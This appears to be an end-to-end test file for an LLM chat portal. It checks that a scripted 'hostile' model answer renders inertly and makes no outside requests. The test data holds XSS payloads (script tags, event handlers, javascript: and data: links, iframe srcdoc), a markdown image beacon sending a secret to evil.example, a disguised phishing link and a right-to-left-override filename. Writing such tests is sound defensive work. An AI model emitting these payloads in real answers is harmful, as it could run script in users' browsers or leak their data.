import type { Browser, Page } from "playwright";
import { afterAll, beforeAll, expect, test } from "vitest";
import { axeFindings, launchBrowser, visit } from "./support/browser.ts";
import { type PortalProcess, startPortal } from "./support/portal-process.ts";
import { type ScriptedProvider, startProvider } from "./support/scripted-provider.ts";
import { Visitor } from "./support/visitor.ts";

let provider: ScriptedProvider;
let portal: PortalProcess;
let browser: Browser;

beforeAll(async () => {
  provider = await startProvider();
  [portal, browser] = await Promise.all([startPortal({ OPENAI_BASE_URL: provider.url }), launchBrowser()]);
  const ana = await new Visitor(portal).signIn("Ana");
  const answer = await ana.send("/api/layer/v1/gates", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ name: "hostile", model: "gpt-4o" }),
  });
  expect(answer.status).toBe(201);
});
afterAll(async () => {
  await browser?.close();
  await portal?.[Symbol.asyncDispose]();
  await provider?.close();
});

/** The playground under the portal's own strict policy, with everything that leaves it or that the policy objects to. */
async function openChat() {
  const { page, problems } = await visit(browser, portal, { as: "Ana", path: "/playground" });
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).origin !== portal.url) foreign.push(request.url());
  });
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    document.addEventListener("securitypolicyviolation", ({ violatedDirective }) => seen.push(violatedDirective));
  });
  const violations = () => page.evaluate(() => Reflect.get(window, "seen"));
  return { page, problems, foreign, violations };
}

async function ask(page: Page): Promise<void> {
  await page.getByRole("textbox", { name: "Message hostile" }).fill("Go on");
  await page.keyboard.press("Enter");
}

const hostile = [
  `<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"><svg onload=window.pwned=3>`,
  `[click me](javascript:window.pwned=4) [data](data:text/html,<script>top.pwned=5</script>)`,
  `![beacon](https://evil.example/beacon.png?secret=1) [bank.example](https://evil.example/login)`,
  `<iframe srcdoc="<script>top.pwned=6</script>"></iframe><style>@import "https://evil.example/a.css";</style>`,
  `\u202egpj.exe\u202c`,
  "```html\n<script>window.pwned = 7</script>\n```",
].join("\n\n");

test("13: a hostile model's answer neither runs nor calls out, in pieces of one character", async () => {
  const { page, problems, foreign, violations } = await openChat();
  provider.answerWith(hostile, 1);
  await ask(page);
  await page.getByRole("button", { name: "Copy answer 1" }).waitFor();
  const log = page.getByRole("log");
  expect(await log.textContent()).toContain("<script>window.pwned = 1</script>");
  expect(await log.textContent()).not.toContain("\u202e");
  expect(await log.locator("script, iframe, img, style, svg[onload]").count()).toBe(0);
  const links = await log.getByRole("link").evaluateAll((all) => all.map((link) => link.getAttribute("href")));
  // The second is an address that stands in the text as it is.
  expect(links).toEqual(["https://evil.example/login", "https://evil.example/a.css"]);
  expect(await log.textContent()).toContain("bank.example (evil.example)");
  for (const text of ["click me", "data"]) await log.getByText(text).first().click();
  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
  expect(await axeFindings(page)).toEqual([]);
  expect(foreign).toEqual([]);
  expect(await violations()).toEqual([]);
  expect(problems).toEqual([]);
});

test.each([
  ["a megabyte without a line break", "a".repeat(1_000_000)],
  ["a table of 5,000 cells", `|a|b|c|d|e|\n|-|-|-|-|-|\n${"|1|2|3|4|5|\n".repeat(1_000)}`],
])("13: while %s comes in, the page goes on answering", async (_, text) => {
  const { page, problems } = await openChat();
  provider.answerWith(text, 2_000, 2);
  await ask(page);
  const field = page.getByRole("textbox", { name: "Message hostile" });
  let turns = 0;
  for (const settled = page.getByRole("button", { name: "Copy answer 1" }); (await settled.count()) === 0; turns++) {
    // A press of a key is shown in the next frame, which a page that is busy does not draw.
    await field.pressSequentially("x");
    await page.evaluate(() => new Promise(requestAnimationFrame));
    await expect.poll(() => field.inputValue()).toBe("x".repeat(turns + 1));
  }
  expect(turns).toBeGreaterThan(0);
  await field.fill("Written meanwhile");
  expect(await page.locator("*").count()).toBeLessThan(5_000);
  expect(problems).toEqual([]);
});
